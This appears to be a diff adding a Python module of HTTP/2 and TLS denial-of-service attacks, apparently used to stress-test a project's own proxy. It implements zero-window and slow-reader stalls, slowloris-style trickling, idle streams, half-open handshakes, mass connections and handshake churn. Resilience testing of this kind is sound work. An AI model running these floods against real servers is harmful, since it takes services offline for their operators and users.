@@ -1,0 +1,260 @@
+"""The attacks that hold something: connections, handshakes, streams, answers that are not read."""
+
+import select
+import socket
+import ssl
+import threading
+import time
+from collections.abc import Callable, Sequence
+
+from proxy.http2 import frames
+
+from .attack_wire import Attack, Link, Windows, close_quietly, headers, hold, opening
+
+_BODY = bytes(1 << 20)
+_MANY = 15_000
+_HALF_OPEN = 2000
+_TRICKLERS = 200
+_IDLERS = 40
+_READERS = 16
+
+
+# -- answers that nobody takes
+
+
+def zero_window(attack: Attack) -> None:
+    """Bodies go up one stream after another, so that each answer is complete at the upstream; none has a window."""
+    links: list[Link] = []
+    while attack.alive():
+        link = attack.connect(opening({4: 0}))
+        if link is None:
+            continue
+        _upload(attack, link)
+        if link.open and len(links) < 3:
+            links.append(link)  # full: its answers stay pinned, and the next connection takes over
+        else:
+            link.close()
+        while len(links) == 3 and attack.alive():
+            attack.sleep(0.1)
+            _reap(links)
+    for link in links:
+        link.drain()
+        link.close()
+
+
+def _reap(links: list[Link]) -> None:
+    for link in [link for link in links if not link.drain()]:
+        link.close()
+        links.remove(link)
+
+
+def _upload(attack: Attack, link: Link) -> None:
+    windows = Windows(link)
+    while not windows.settled and link.wait():
+        pass
+    for number in range(min(windows.max_streams, 100)):
+        if not _upload_one(attack, link, windows, 1 + 2 * number):
+            return
+
+
+def _upload_one(attack: Attack, link: Link, windows: Windows, stream_id: int) -> bool:
+    if not link.send(headers(stream_id)):
+        return False
+    left = len(_BODY)
+    waited = time.monotonic()
+    while left:
+        size = min(left, max(windows.of(stream_id), 0), 16_384)
+        if size == 0:
+            if not link.wait() or time.monotonic() - waited > 2:
+                return link.open and attack.alive()  # reset or stalled: the next stream
+            continue
+        waited = time.monotonic()
+        left -= size
+        windows.spend(stream_id, size)
+        end = 0 if left else frames.END_STREAM
+        if not link.send(frames.frame(frames.DATA, end, stream_id, _BODY[:size])):
+            return False
+    attack.sent += 1
+    return True
+
+
+def slow_reader(attack: Attack) -> None:
+    """Requests of 60 KB each, which need no credit that would have to be read first; the echoes are left unread."""
+    links: list[Link] = []
+    body = b"".join(
+        frames.frame(frames.DATA, frames.END_STREAM if last else 0, 0, _BODY[:15_000])
+        for last in (False, False, False, True)
+    )
+    while attack.alive():
+        if len(links) == _READERS:
+            attack.sleep(0.1)
+            continue
+        link = attack.connect(opening({4: frames.MAX_WINDOW}, frames.MAX_WINDOW - 65_535), receive_buffer=4096)
+        if link is None:
+            continue
+        windows = Windows(link)
+        while not windows.settled and link.wait():
+            pass
+        link.wait()  # the connection's WINDOW_UPDATE, which follows
+        room = windows.connection
+        for i in range(1, 2 * min(windows.max_streams, 100), 2):
+            room -= 60_000
+            if room < 0 or not _send_for(link, headers(i) + _for_stream(body, i), 1.0):
+                break
+            attack.sent += 1
+        links.append(link)
+    for link in links:
+        link.drain()
+        link.close()
+
+
+def _for_stream(data: bytes, stream_id: int) -> bytes:
+    """Four frames of 15,000 bytes, written for stream 0, for another stream."""
+    step = 15_009
+    return b"".join(
+        data[at : at + 5] + stream_id.to_bytes(4, "big") + data[at + 9 : at + step] for at in range(0, len(data), step)
+    )
+
+
+def _send_for(link: Link, data: bytes, seconds: float) -> bool:
+    """Send without reading; False when the target takes nothing for so long."""
+    view = memoryview(data)
+    until = time.monotonic() + seconds
+    while view:
+        try:
+            view = view[link.sock.send(view) :]
+            until = time.monotonic() + seconds
+        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
+            if time.monotonic() > until:
+                return False
+            time.sleep(0.005)
+        except OSError:
+            return False
+    return True
+
+
+# -- byte by byte
+
+
+def trickle_preface(attack: Attack) -> None:
+    _trickle(attack, b"", frames.PREFACE + frames.settings({}), 0.25)
+
+
+def trickle_headers(attack: Attack) -> None:
+    fragment = (b"\x00\x01x\x01a") * 3000
+    start = opening() + headers(1)
+    _trickle(attack, start, frames.frame(frames.HEADERS, frames.END_HEADERS, 3, fragment), 0.02)
+
+
+def trickle_body(attack: Attack) -> None:
+    _trickle(attack, opening() + headers(1), frames.frame(frames.DATA, 0, 1, _BODY[:16_000]) * 10, 0.02)
+
+
+def _trickle(attack: Attack, start: bytes, slow: bytes, pace: float) -> None:
+    positions: dict[Link, int] = {}
+
+    def turn(links: Sequence[Link]) -> None:
+        for link in links:
+            at = positions.get(link, 0)
+            if at < len(slow):
+                link.send(slow[at : at + 1])
+                positions[link] = at + 1
+                attack.sent += 1
+
+    hold(attack, _TRICKLERS, lambda: attack.connect(start), turn, pace)
+
+
+# -- things left open
+
+
+def idle_streams(attack: Attack) -> None:
+    def opened() -> Link | None:
+        link = attack.connect(opening())
+        if link is None:
+            return None
+        windows = Windows(link)
+        while not windows.settled and link.wait():
+            pass
+        streams = windows.max_streams
+        if link.send(b"".join(headers(i) for i in range(1, 2 * streams, 2))):
+            attack.sent += streams
+        return link
+
+    hold(attack, _IDLERS, opened, lambda links: None, 0.1)
+
+
+def half_open(attack: Attack) -> None:
+    hello = _client_hello(attack)
+    _keep_plain(attack, _HALF_OPEN, hello[: len(hello) // 2])
+
+
+def many_connections(attack: Attack) -> None:
+    _keep_plain(attack, _MANY, b"")
+
+
+def many_sessions(attack: Attack) -> None:
+    def opened() -> Link | None:
+        link = attack.connect(opening())
+        if link is not None:
+            attack.sent += 1
+        return link
+
+    hold(attack, _MANY, opened, lambda links: None, 0.5)
+
+
+def _client_hello(attack: Attack) -> bytes:
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    client = attack.context.wrap_bio(incoming, outgoing, server_hostname="localhost")
+    try:
+        client.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return outgoing.read()
+
+
+def _keep_plain(attack: Attack, count: int, start: bytes) -> None:
+    """Keep `count` TCP connections open that have sent `start`; those that are closed are opened again."""
+    kept: dict[int, socket.socket] = {}
+    poll = select.poll()
+    looked = time.monotonic()
+    while attack.alive():
+        if len(kept) < count and (sock := attack.plain()) is not None:
+            sock.setblocking(False)
+            try:
+                sock.send(start)
+            except OSError:
+                pass  # closed already: the poll below says so
+            kept[sock.fileno()] = sock
+            poll.register(sock, select.POLLIN)
+            attack.sent += 1
+        if len(kept) == count or time.monotonic() - looked > 0.1:
+            looked = time.monotonic()
+            for number, _ in poll.poll(100 if len(kept) == count else 0):
+                attack.endings["closed"] += 1
+                poll.unregister(number)
+                kept.pop(number).close()
+    attack.endings["still open"] += len(kept)
+    close_quietly(kept.values())
+
+
+def churn(attack: Attack) -> None:
+    _in_threads(8, lambda: _handshakes(attack))
+
+
+def _handshakes(attack: Attack) -> None:
+    while attack.alive():
+        link = attack.connect(opening())
+        if link is not None:
+            attack.sent += 1
+            link.drain()
+            link.sock.close()
+            attack.endings["closed by the attacker"] += 1
+
+
+def _in_threads(count: int, work: Callable[[], None]) -> None:
+    """OpenSSL's part of a handshake runs without the interpreter's lock, so threads do pay."""
+    threads = [threading.Thread(target=work) for _ in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
